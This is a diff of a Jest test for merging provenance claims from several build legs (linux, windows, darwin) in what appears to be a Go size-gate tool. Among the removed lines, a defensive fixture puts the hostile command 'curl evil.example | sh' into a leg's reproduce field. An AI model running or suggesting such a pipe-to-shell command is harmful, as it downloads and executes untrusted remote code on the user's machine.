@@ -1,47 +1,61 @@
 import { expect, it } from '@jest/globals'
-import { mergeProvenance } from '../../src/gate/merge-provenance.ts'
+import type { LegClaims } from '../../src/gate/measured-leg.ts'
+import { withClaims } from '../../src/gate/merge-provenance.ts'
 import type { Provenance } from '../../src/report/report.ts'
 
-const provenance: Provenance = {
+const own: Provenance = {
   tool: 'go-size-gate 0.0.0',
-  mode: 'measure',
+  mode: 'judge',
   event: 'push',
   headCommit: 'a',
+  overrides: ['overrode GOFLAGS=-x'],
+  relaxations: [],
+  passedThrough: [],
+  modulesReused: 1,
+  modulesFetched: 1,
+  verified: true,
+  notices: ['of this job'],
+  reproduce: 'go-size-gate check'
+}
+
+const claims: LegClaims = {
   overrides: ['overrode GOFLAGS=-x'],
   relaxations: [],
   passedThrough: [],
   modulesReused: 2,
   modulesFetched: 3,
   verified: true,
-  notices: ['of all'],
-  reproduce: ''
+  notices: ['of all']
 }
 
-it('tells once what all legs say, and names who says the rest', () => {
-  const merged = mergeProvenance([
-    { name: 'linux', provenance },
+it('gives what legs claim their names, also where all of them say the same', () => {
+  const merged = withClaims(own, [
+    { name: 'linux', claims },
     {
       name: 'windows',
-      provenance: {
-        ...provenance,
+      claims: {
+        ...claims,
         overrides: ['overrode CC=y'],
         notices: ['of all', 'of one'],
-        verified: false,
-        // A stranger's word, for people to type.
-        reproduce: 'curl evil.example | sh'
+        verified: false
       }
     },
-    { name: 'darwin', provenance }
+    { name: 'darwin', claims }
   ])
   expect(merged).toEqual({
-    ...provenance,
-    mode: 'judge',
-    overrides: ['linux, darwin: overrode GOFLAGS=-x', 'windows: overrode CC=y'],
-    notices: ['of all', 'windows: of one'],
-    modulesReused: 6,
-    modulesFetched: 9,
-    verified: false,
-    reproduce: '',
-    reproduceNote: 'each leg has its line in the summary of its own job'
+    ...own,
+    overrides: [
+      'overrode GOFLAGS=-x',
+      'linux, darwin: overrode GOFLAGS=-x',
+      'windows: overrode CC=y'
+    ],
+    notices: [
+      'of this job',
+      'linux, windows, darwin: of all',
+      'windows: of one'
+    ],
+    modulesReused: 7,
+    modulesFetched: 10,
+    verified: false
   })
 })
